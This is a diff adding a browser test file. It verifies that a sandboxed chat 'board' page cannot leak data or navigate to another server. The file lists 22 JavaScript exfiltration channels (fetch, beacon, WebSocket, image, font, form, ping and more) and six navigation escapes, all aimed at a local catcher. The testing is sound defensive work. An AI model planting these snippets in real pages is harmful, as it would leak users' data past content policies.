@@ -1,0 +1,141 @@
+"""Nothing that the board shows leaves it, except to the program that shows it."""
+
+from collections.abc import Iterator, Mapping
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Frame
+
+from sandbox.serving import serve_store
+from tests.board import hostile
+from tests.board.browser import chromium, skip_without_chromium
+from tests.board.catcher import Catcher, catching
+from tests.board.chat import ChatProgram, open_chat
+from tests.board.conftest import OpenBoard
+from tests.board.desk import desk_for
+from tests.board.net_log import requests
+from tests.waiting import wait_until
+
+pytestmark = pytest.mark.slow
+
+ATTEMPTS: Mapping[str, str] = {
+    "fetch": "fetch(url, {mode: 'no-cors'}).catch(() => {})",
+    "xhr": "const r = new XMLHttpRequest(); r.open('GET', url); r.send()",
+    "beacon": "navigator.sendBeacon(url)",
+    "event-source": "new EventSource(url)",
+    "web-socket": "new WebSocket(url.replace('http', 'ws'))",
+    "image": "new Image().src = url",
+    "stylesheet": "add('link', {rel: 'stylesheet', href: url})",
+    "preload": "add('link', {rel: 'preload', as: 'image', href: url})",
+    "prefetch": "add('link', {rel: 'prefetch', href: url})",
+    "video": "add('video', {src: url})",
+    "audio": "add('audio', {src: url})",
+    "frame": "add('iframe', {src: url})",
+    "embed": "add('embed', {src: url})",
+    "object": "add('object', {data: url})",
+    "script": "add('script', {src: url})",
+    "module": "import(url).catch(() => {})",
+    "font": "new FontFace('leak', `url(${url})`).load().catch(() => {})",
+    "background": "document.body.style.backgroundImage = `url(${url})`",
+    "rule": "document.styleSheets[0].insertRule(`body { list-style-image: url(${url}) }`)",
+    "vector": "addVector('image', url)",
+    "form": "const f = add('form', {action: url, method: 'post'}); f.submit()",
+    "ping": "const a = add('a', {href: '#', ping: url}); a.click()",
+}
+"""What a script could do in the page to send something to *url*, if one ever ran there."""
+
+NAVIGATIONS: Mapping[str, str] = {
+    "refresh": "add('meta', {'http-equiv': 'refresh', content: `0;url=${url}`})",
+    "location": "location = url",
+    "parent": "parent.location = url",
+    "top": "top.location = url",
+    "window": "open(url)",
+    "link": "add('a', {href: url, target: '_blank'}).click()",
+}
+"""The same by leaving the page: a policy of the page cannot forbid that, its host can."""
+
+_ADD = """
+const add = (tag, attributes) => {
+  const created = document.createElement(tag);
+  for (const [name, value] of Object.entries(attributes)) created.setAttribute(name, value);
+  document.body.append(created);
+  return created;
+};
+const addVector = (tag, href) => {
+  const [picture, created] = ["svg", tag].map((name) =>
+    document.createElementNS("http://www.w3.org/2000/svg", name));
+  created.setAttribute("href", href);
+  picture.append(created);
+  document.body.append(picture);
+};
+"""
+
+
+@pytest.fixture
+def catcher() -> Iterator[Catcher]:
+    with catching() as catcher:
+        yield catcher
+
+
+def attempt(frame: Frame, attempts: Mapping[str, str], url: str) -> None:
+    """Try all of them. Each asks for its name at *url*, and may be refused with an error."""
+    for name, code in attempts.items():
+        frame.evaluate(f"url => {{ {_ADD} try {{ {code} }} catch {{}} }}", f"{url}/{name}")
+
+
+def test_the_browser_s_own_log_has_no_request_of_the_board(
+    program: ChatProgram, catcher: Catcher, tmp_path: Path
+) -> None:
+    """Also with texts and links that point to another server."""
+    skip_without_chromium()
+    log = tmp_path / "net.json"
+    text = hostile.TEXTS["image"].replace("http://127.0.0.1:9", catcher.url)
+    with (
+        chromium(f"--log-net-log={log}") as browser,
+        serve_store(hostile.world(text, f"{catcher.url}/link")) as sandbox,
+        desk_for(sandbox) as desk,
+    ):
+        chat = open_chat(browser, program, desk)
+        chat.board.get_by_role("button", name="leak.png").first.click()
+        chat.board.get_by_role("button", name="Ask about this").click()
+        chat.board.get_by_role("button", name="Refresh").click()
+        chat.board.get_by_role("heading", name="Timeline").wait_for()
+    host, proxy = program.host.rstrip("/"), program.proxy.rstrip("/")
+    assert {request.origin for request in requests(log)} == {host, proxy}
+    assert [request.url for request in requests(log) if request.initiator == proxy] == []
+    assert [*catcher.paths] == []
+
+
+def test_each_attempt_works_in_a_page_without_a_policy(browser: Browser, catcher: Catcher) -> None:
+    """So the next tests try what could get through."""
+    page = browser.new_page()
+    page.set_content("<style></style>")
+    attempt(page.main_frame, ATTEMPTS, catcher.url)
+    wait_until(lambda: {*catcher.paths} == {f"/{name}" for name in ATTEMPTS})
+
+
+@pytest.mark.parametrize("policy", ["none", "strict"])
+def test_a_script_in_the_board_could_send_nothing(
+    program: ChatProgram, desk: str, catcher: Catcher, tmp_path: Path, policy: str
+) -> None:
+    """Also where the program has no policy: the page has its own."""
+    skip_without_chromium()
+    log = tmp_path / "net.json"
+    with chromium(f"--log-net-log={log}") as browser:
+        chat = open_chat(browser, program, desk, policy=policy)
+        chat.board.get_by_role("heading", name="Live incidents").wait_for()
+        attempt(chat.board, ATTEMPTS, catcher.url)
+        browser.new_page().goto(f"{catcher.url}/the-end")
+    asked = {request.url for request in requests(log) if request.origin == catcher.url}
+    assert asked <= {f"{catcher.url}/the-end", f"{catcher.url}/favicon.ico"}
+
+
+@pytest.mark.parametrize("name", [*NAVIGATIONS])
+def test_a_strict_program_keeps_the_board_from_leaving(
+    program: ChatProgram, board: OpenBoard, catcher: Catcher, name: str
+) -> None:
+    chat = board()
+    chat.board.get_by_role("heading", name="Live incidents").wait_for()
+    attempt(chat.board, {name: NAVIGATIONS[name]}, catcher.url)
+    chat.page.goto(f"{catcher.url}/the-end")
+    assert [*catcher.paths] == ["/the-end"]
